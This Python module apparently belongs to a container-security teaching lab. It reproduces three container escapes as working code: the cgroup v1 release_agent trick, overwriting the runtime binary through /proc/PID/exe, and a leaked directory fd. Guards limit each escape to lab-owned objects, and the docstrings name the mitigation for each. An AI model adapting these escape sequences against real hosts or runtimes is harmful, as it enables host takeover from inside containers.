"""Three famous container escapes, on lab objects only (chapter 07, "CVEs").

Each is the class of a real runtime bug, reproduced against something the lab
made, and each comes with the engine step that blocks it:

=====================  ==============================================  =========================
CVE-2022-0492          a v1 cgroup hierarchy's ``release_agent`` runs   no CAP_SYS_ADMIN; a user
(:func:`release_agent`) as root on the host when a cgroup empties      or cgroup namespace
CVE-2019-5736          the runtime's binary, reached from inside via   the runtime runs from a
(:class:`RuntimeCopy`)  /proc/PID/exe, is overwritten                   sealed memfd copy
CVE-2024-21626         a directory fd the runtime leaked gives the     O_CLOEXEC; check the cwd
(:func:`leaky_run`)     process a way to the host's /                   after chdir
=====================  ==============================================  =========================

What is attacked is always the lab's: a v1 hierarchy it names ``name=jap-<id>``
(never one of the host's: their ``release_agent`` is the host's), a *copy* of a
program in a lab folder (never /usr/sbin/runc), a lab folder and its files.
What the kernel does on the way: docs/kernel-notes.md, "Escapes and user namespaces".
"""
from __future__ import annotations

import errno
import fcntl
import os
import select
import shutil
import signal
from typing import Any, Callable

from . import _launch, _libc, _v1hier, lab, proc
from .errors import BadInput, NeedsPrivilege

AGENT = "jap-agent.sh"        # written by the container into its own root
AGENT_MARK = "jap-agent-ran"  # what the agent writes there, run by the host's kernel


def _wait_for(folder: str, name: str, timeout: float) -> bool:
    """Wait (inotify(7)) until ``folder/name`` has been written and closed."""
    path = os.path.join(folder, name)
    ino = _libc.inotify_init1()
    try:
        _libc.inotify_add_watch(ino, folder, _libc.IN_CLOSE_WRITE | _libc.IN_MOVED_TO)
        if os.path.exists(path) and os.path.getsize(path):
            return True
        while select.select([ino], [], [], timeout)[0]:
            os.read(ino, 4096)
            if os.path.exists(path) and os.path.getsize(path):
                return True
        return False
    finally:
        os.close(ino)


# --- CVE-2022-0492: the v1 release_agent ---------------------------------------------------

def release_agent(hierarchy: str, timeout: float = 5.0) -> Callable[[], dict]:
    """The release_agent escape, on a lab-named v1 hierarchy: run inside a container.

    cgroups-v1 (Documentation/admin-guide/cgroup-v1/cgroups.rst, "notify_on_release"):
    when the last process leaves a cgroup whose ``notify_on_release`` is 1, the
    kernel runs the hierarchy's ``release_agent`` - as root, in the host's
    namespaces (a usermode helper, like modprobe).  A container with CAP_SYS_ADMIN
    mounts a v1 hierarchy, points ``release_agent`` at a script of its own
    (reached from the host through /proc/<its host PID>/root) and empties a cgroup.

    ``hierarchy`` must be a lab name: ``name=<it>`` then makes a *new*, empty named
    hierarchy (no controllers) whose release_agent belongs to nobody else.
    Returns what the agent wrote: its uid and its mount namespace as the host sees it.
    """
    if not lab.is_lab_name(hierarchy):
        raise BadInput(f"hierarchy {hierarchy!r}: a lab name (lab.name()); the host's own "
                       "hierarchies are never touched")
    if os.geteuid() == 0 and not any(e.kind == "hierarchy" and e.name == hierarchy
                                     for e in lab.entries()):
        # Registered before the container can make it; cleanup sweeps it (lab.remove).
        lab.register("hierarchy", hierarchy, note="a named v1 hierarchy (chapter 07, release_agent)")

    def attack() -> dict:
        # Where the host finds our root: /proc/<our PID as the host numbers it>/root.
        # Without a PID namespace os.getpid() is that PID (pid_namespaces(7)).
        if os.getpid() == 1:
            raise OSError(errno.ESRCH, "in a PID namespace the host's PID of this process is "
                                       "unknown from inside")
        host_root = f"/proc/{os.getpid()}/root"
        with open("/" + AGENT, "w") as f:
            f.write("#!/bin/sh\n# run by the host's kernel: argv[1] is the emptied cgroup\n"
                    f'echo "uid=$(id -u) mnt=$(readlink /proc/self/ns/mnt) cgroup=$1" '
                    f'> "$(dirname "$0")/{AGENT_MARK}"\n')
        os.chmod("/" + AGENT, 0o755)
        mnt = "/jap-cgroup"
        os.makedirs(mnt, exist_ok=True)
        try:
            _libc.mount("cgroup", mnt, "cgroup", _libc.MS_NOSUID | _libc.MS_NODEV | _libc.MS_NOEXEC,
                        f"none,name={hierarchy}")
        except OSError as exc:
            if exc.errno in (errno.ENODEV, errno.ENOENT):  # no "cgroup" filesystem type
                raise OSError(exc.errno, "this kernel has no cgroup v1 (CONFIG_CGROUP_V1 off): no "
                                         "release_agent anywhere, nothing to escape through") from None
            raise
        child = os.path.join(mnt, "jap-empty-me")
        try:
            os.makedirs(child, exist_ok=True)
            with open(os.path.join(child, "notify_on_release"), "w") as f:
                f.write("1")
            with open(os.path.join(mnt, "release_agent"), "w") as f:
                f.write(f"{host_root}/{AGENT}")
            for cg in (child, mnt):  # in, and out again: the child is empty now
                with open(os.path.join(cg, "cgroup.procs"), "w") as f:
                    f.write("0")
            ran = _wait_for("/", AGENT_MARK, timeout)
            agent = open("/" + AGENT_MARK).read().strip() if ran else ""
        finally:
            try:
                os.rmdir(child)
            finally:
                _libc.umount2(mnt, _libc.MNT_DETACH)
        if not ran:
            raise OSError(errno.ETIMEDOUT, f"the release agent did not run within {timeout:g} s")
        fields = dict(kv.split("=", 1) for kv in agent.split())
        return {"release_agent": f"{host_root}/{AGENT}", "agent uid": int(fields["uid"]),
                "agent mount namespace": fields["mnt"], "emptied cgroup": fields["cgroup"],
                "container mount namespace": os.readlink("/proc/self/ns/mnt")}
    return attack


def new_hierarchy() -> str:
    """A lab name for a named v1 hierarchy, registered before anything makes it (the
    lab's cleanup removes it: :func:`sweep_hierarchy`)."""
    name = lab.name()
    lab.register("hierarchy", name, note="a named v1 hierarchy (chapter 07, release_agent)")
    return name


def hierarchy_exists(hierarchy: str) -> bool:
    """Does the v1 hierarchy ``name=<hierarchy>`` exist (mounted or not)?"""
    return _v1hier.exists(hierarchy)


def sweep_hierarchy(hierarchy: str, timeout: float = 5.0) -> None:
    """Make sure the lab's named v1 hierarchy is gone, and forget it (safe twice).

    A hierarchy unmounted right after its last child cgroup was removed lives on:
    mounted again, cleared and unmounted until gone (:mod:`justaprocess._v1hier`).
    """
    if not lab.is_lab_name(hierarchy):
        raise BadInput(f"hierarchy {hierarchy!r}: a lab name")
    _v1hier.sweep(hierarchy, timeout)
    for e in lab.entries():
        if e.kind == "hierarchy" and e.name == hierarchy:
            lab.unregister(e)


# --- CVE-2019-5736: overwriting the runtime through /proc/PID/exe --------------------------

class RuntimeCopy:
    """A lab copy of a program, standing in for the runtime binary (runc) of the host.

    ``enter()`` starts it the way ``runc exec`` enters a container: a process of the
    host's binary, inside the container's reach (its PID namespace), before it execs
    the container's program.  ``sealed=True`` starts it from a sealed memfd copy
    instead (memfd_create(2), fcntl(2) F_ADD_SEALS), as runc does since 1.0.0-rc7
    (libcontainer/nsenter/cloned_binary.c): /proc/PID/exe then names the memfd.
    """

    def __init__(self, folder: str, program: str = "sleep"):
        if not lab.in_lab_dirs(os.path.abspath(folder), netns=False):
            raise BadInput("the copy goes into a lab folder (jap-...), e.g. box.dir")
        src = shutil.which(program)
        if src is None:
            raise BadInput(f"{program!r} is not on PATH")
        self.path = os.path.join(folder, "jap-runtime")
        shutil.copy(src, self.path)  # never the real runtime: a copy, in the lab's folder
        with open(self.path, "rb") as f:
            self.original = f.read()
        self.handle = None

    def enter(self, sealed: bool = False, join_pid: int | None = None) -> tuple[Any, Any]:
        """Start the 'runtime' process (it sleeps until stopped): its handle, and the
        insecure.Target naming it.  ``join_pid``: a container's PID 1, whose PID
        namespace it joins (as runc exec does); None: the host's."""
        from .insecure import Target
        memfd = None
        argv0 = self.path
        if sealed:
            memfd = os.memfd_create("jap-runtime", os.MFD_CLOEXEC | os.MFD_ALLOW_SEALING)
            os.write(memfd, self.original)
            fcntl.fcntl(memfd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SEAL | fcntl.F_SEAL_SHRINK
                        | fcntl.F_SEAL_GROW | fcntl.F_SEAL_WRITE)
            # execve(2) refuses a file open for writing anywhere (ETXTBSY): keep a
            # read-only fd of the memfd and close the writable one.
            ro = os.open(f"/proc/self/fd/{memfd}", os.O_RDONLY | os.O_CLOEXEC)
            os.close(memfd)
            memfd = ro
            argv0 = f"/proc/self/fd/{memfd}"  # the child inherits it by fork; CLOEXEC at exec
        try:
            h = _launch.start(_launch.Spec(
                argv=[argv0, "3600"], join={"pid": join_pid} if join_pid else {},
                stdin="null", stdout="null", stderr="null", note="chapter 07: the 'runtime'"))
        finally:
            if memfd is not None:
                os.close(memfd)
        if h.error is not None:
            raise h.error
        self.handle = h
        return h, Target(h.pid, proc.start_time(h.pid), "jap-runtime 3600")

    def stop(self) -> None:
        """End the 'runtime' process if the attack left it, and reap it (safe twice)."""
        if self.handle is not None:
            self.handle.kill()
            self.handle.wait(5)
            self.handle = None

    def changed(self) -> bool:
        with open(self.path, "rb") as f:
            return f.read() != self.original

    def run(self) -> _launch.Result:
        """The host runs its runtime again (as it does for the next container)."""
        return _launch.tool([self.path, "0"], timeout=10)


PAYLOAD_MARK = "jap-pwned"


def overwrite_runtime(target, timeout: float = 5.0) -> Callable[[], dict]:
    """Inside the container: overwrite the binary of the runtime process ``target``.

    /proc/PID/exe is a link to the file the process runs (proc(5)); open it O_PATH
    and keep it.  While the runtime runs, writing is ETXTBSY (execve(2)); once it
    is gone (here the container kills it; in CVE-2019-5736 runc exec'd the
    container's program), reopen the kept fd through /proc/self/fd for writing and
    replace the host's binary with a script: the host runs it next time, as root.
    """
    pid, start = target.pid, target.start
    payload = ("#!/bin/sh\n# written by a container into the host's runtime binary\n"
               f'echo "uid=$(id -u)" > "$(dirname "$0")/{PAYLOAD_MARK}"\n')

    def attack() -> dict:
        pidfd = os.pidfd_open(pid)
        try:
            if proc.start_time(pid) != start:
                raise OSError(errno.ESRCH, f"PID {pid} is not the runtime process")
            exe = os.open(f"/proc/{pid}/exe", os.O_PATH)
            seen = os.readlink(f"/proc/{pid}/exe")
            try:
                os.close(os.open(f"/proc/self/fd/{exe}", os.O_WRONLY))
                busy = "opened for writing while it runs"
            except OSError as exc:
                busy = errno.errorcode.get(exc.errno, str(exc.errno))
            signal.pidfd_send_signal(pidfd, signal.SIGKILL)
            select.select([pidfd], [], [], timeout)  # readable once it has exited
        finally:
            os.close(pidfd)
        try:
            fd = os.open(f"/proc/self/fd/{exe}", os.O_WRONLY | os.O_TRUNC)
            try:
                os.write(fd, payload.encode())
            finally:
                os.close(fd)
        finally:
            os.close(exe)
        return {"/proc/PID/exe": seen, "write while it ran": busy, "overwritten": True}
    return attack


# --- CVE-2024-21626: a leaked directory fd -------------------------------------------------

def leaky_run(root: str, host_dir: str, script: str, *, cwd_trick: bool = False,
              cloexec: bool = False, verify_cwd: bool = False, timeout: float = 10.0
              ) -> tuple[int, _launch.Result]:
    """Start ``sh -c script`` in a container (mount, PID, UTS, IPC namespaces, pivot_root,
    a fresh /proc) from a 'runtime' - this process - that holds ``host_dir`` open.

    ``$FD`` in the script is that fd's number.  Without ``cloexec`` the fd is
    inheritable (no O_CLOEXEC): it survives execve(2) into the container's program,
    as runc 1.1.11 leaked /sys/fs/cgroup.  ``cwd_trick``: the process's cwd is
    /proc/self/fd/FD (CVE-2024-21626 set ``process.cwd`` so): the chdir happens
    before execve, through the still open fd, so O_CLOEXEC does not help there.
    ``verify_cwd``: after chdir, getcwd(3) must succeed (a cwd outside the root is
    ENOENT, "(unreachable)": getcwd(2)), as runc checks since 1.1.12.
    Returns (the fd number, the launcher's Result).
    """
    if os.geteuid() != 0:
        raise NeedsPrivilege("root", "a container:")
    if not os.path.isdir(os.path.join(root, "proc")) or not os.path.isdir(host_dir):
        raise BadInput(f"{root!r} must be a root filesystem and {host_dir!r} a folder")
    if not lab.in_lab_dirs(os.path.abspath(host_dir), netns=False):
        raise BadInput("the leaked folder must be a lab folder (jap-...)")
    fd = os.open(host_dir, os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC)
    try:
        if not cloexec:
            os.set_inheritable(fd, True)  # the bug: no O_CLOEXEC
        spec = _launch.Spec(
            argv=["/bin/sh", "-c", script], new=("mnt", "uts", "ipc", "pid"), hostname="jap-leaky",
            root=root, pivot_root=True, mount_proc=True,
            cwd=f"/proc/self/fd/{fd}" if cwd_trick else "/", verify_cwd=verify_cwd,
            env={"PATH": "/bin:/sbin:/usr/bin:/usr/sbin", "FD": str(fd)}, stdin="null",
            cgroup="bounded", note="chapter 07: a runtime that leaks an fd")
        return fd, _launch.run(spec, timeout=timeout)
    finally:
        os.close(fd)


__all__ = ["release_agent", "new_hierarchy", "sweep_hierarchy", "hierarchy_exists", "RuntimeCopy", "overwrite_runtime", "leaky_run",
           "AGENT", "AGENT_MARK", "PAYLOAD_MARK"]
